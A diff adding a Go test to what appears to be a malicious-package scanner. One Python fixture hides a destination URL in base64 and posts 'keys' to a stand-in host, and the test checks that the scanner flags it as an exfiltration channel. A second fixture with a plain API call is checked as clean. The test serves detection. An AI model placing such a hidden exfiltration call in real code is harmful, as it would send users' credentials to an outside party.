@@ -468,3 +468,14 @@ func TestProgramSmuggledAsText(t *testing.T) {
 		t.Errorf("driver download: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestEncodedDestination(t *testing.T) {
+	r := sdist(t, map[string]string{"p/main.py": "import base64, requests\ndef report(keys):\n    requests.post(url=base64.b64decode('" + b64("https://api.example.invalid/aws") + "').decode('utf-8'), json=keys)\n"})
+	if r.Verdict == Clean || !hasRule(r, "exfil-channel", High) {
+		t.Errorf("destination hidden in base64: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"p/api.py": "import requests\nBASE = 'https://api.example.invalid'\ndef report(keys):\n    requests.post(BASE + '/v1/report', json=keys)\n"})
+	if r.Verdict != Clean {
+		t.Errorf("plain API endpoint: %s %+v", r.Verdict, r.Findings)
+	}
+}
